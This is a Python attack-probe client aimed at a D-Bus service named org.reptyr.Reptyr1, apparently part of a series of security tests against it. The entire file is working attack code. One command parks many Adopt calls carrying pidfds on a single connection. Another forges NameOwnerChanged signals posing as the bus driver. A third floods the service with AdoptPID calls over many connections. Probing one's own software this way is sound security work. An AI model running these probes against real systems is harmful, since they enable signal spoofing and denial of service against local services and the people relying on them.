# SPDX-License-Identifier: MIT
"""Raw client for the attack4 probes (identify stage): reuses
attack3-client.py's wire code.

    attack4-client.py park PID N [HOLD]
        one connection, N Adopt(pidfd of PID) calls (interactive); prints
        "NAME <unique name>" then "SENT"; on a line on stdin, HOLD=exit
        disconnects at once, HOLD=read prints the answers as JSON.
    attack4-client.py spoof NAME MODE
        a NameOwnerChanged(NAME, NAME, "") signal, path/interface of the
        bus driver; MODE broadcast (no destination) or unicast (to
        org.reptyr.Reptyr1) or both; prints any error the bus sends back.
    attack4-client.py flood-pid PID C W SECONDS
        C connections keeping W AdoptPID(PID) calls (no fds) in flight.
"""
import importlib.util
import json
import os
import select
import socket
import struct
import sys
import time

spec = importlib.util.spec_from_file_location(
    "a3", os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack3-client.py"))
A = importlib.util.module_from_spec(spec)
spec.loader.exec_module(A)


def sstr(buf, s):
    v = s.encode()
    return A.align(buf, 4) + struct.pack("<I", len(v)) + v + b"\0"


def signal_msg(serial, dest, name):
    fields = [A.field(1, "o", "/org/freedesktop/DBus"), A.field(2, "s", "org.freedesktop.DBus"),
              A.field(3, "s", "NameOwnerChanged"), A.field(8, "g", "sss")]
    if dest:
        fields.append(A.field(6, "s", dest))
    arr = b""
    for f in fields:
        arr = A.align(arr, 8) + f
    body = sstr(sstr(sstr(b"", name), name), "")
    head = struct.pack("<cBBBII", b"l", 4, 0, 1, len(body), serial)
    head += struct.pack("<I", len(arr)) + arr
    return A.align(head, 8) + body


def unique_name(c):
    # NameAcquired(our unique name) follows Hello.
    while True:
        mtype, rs, err, sig, body = c.read_message()
        if mtype == 4 and sig == "s":
            (n,) = struct.unpack_from("<I", body, 0)
            return body[4:4 + n].decode()


def main(argv):
    verb = argv[1]
    if verb == "park":
        pid, n = int(argv[2]), int(argv[3])
        hold = argv[4] if len(argv) > 4 else "exit"
        c = A.Conn()
        print("NAME " + unique_name(c), flush=True)
        pidfd = os.pidfd_open(pid)
        serials = [A.send_adopt(c, pidfd) for _ in range(n)]
        print("SENT", flush=True)
        sys.stdin.readline()
        if hold == "exit":
            os._exit(0)
        want, out = set(serials), []
        c.s.settimeout(30)
        while want:
            mtype, rs, err, sig, body = c.read_message()
            if rs in want:
                want.discard(rs)
                out.append({"ok": mtype == 2, "error": err})
        print(json.dumps(out), flush=True)
        return 0
    if verb == "spoof":
        name, mode = argv[2], argv[3]
        c = A.Conn()
        dests = {"broadcast": [None], "unicast": [A.BUS], "both": [None, A.BUS]}[mode]
        for d in dests:
            c.serial += 1
            c.s.sendall(signal_msg(c.serial, d, name))
        # An error (policy) comes back as an error message; wait briefly.
        c.s.settimeout(1.0)
        got = []
        try:
            while True:
                mtype, rs, err, sig, body = c.read_message()
                if mtype == 3:
                    got.append(err)
        except (socket.timeout, TimeoutError, EOFError):
            pass
        print(json.dumps({"sent": len(dests), "errors": got}), flush=True)
        return 0
    if verb == "flood-pid":
        pid, nconn, w, secs = int(argv[2]), int(argv[3]), int(argv[4]), float(argv[5])
        body = A.align(struct.pack("<I", pid) + struct.pack("<I", 0), 8)
        conns = [A.Conn() for _ in range(nconn)]

        def send(cc):
            cc.send(A.BUS, A.PATH, A.BUS, "AdoptPID", sig="ua{sv}", body=body)
        for cc in conns:
            for _ in range(w):
                send(cc)
        print("FLOODING", flush=True)
        counts = {}
        end = time.monotonic() + secs
        while time.monotonic() < end:
            ready, _, _ = select.select([cc.s for cc in conns], [], [], 0.5)
            for cc in conns:
                if cc.s not in ready:
                    continue
                data = cc.s.recv(1 << 20)
                cc.buf += data
                while len(cc.buf) >= 16:
                    body_len, _, fields_len = struct.unpack_from("<III", cc.buf, 4)
                    total = ((16 + fields_len + 7) & ~7) + body_len
                    if len(cc.buf) < total:
                        break
                    mtype = cc.buf[1]
                    cc.buf = cc.buf[total:]
                    counts[mtype] = counts.get(mtype, 0) + 1
                    if mtype in (2, 3):
                        send(cc)
        print(json.dumps({"answers_by_type": counts}), flush=True)
        return 0
    raise SystemExit("unknown verb")


if __name__ == "__main__":
    sys.exit(main(sys.argv))
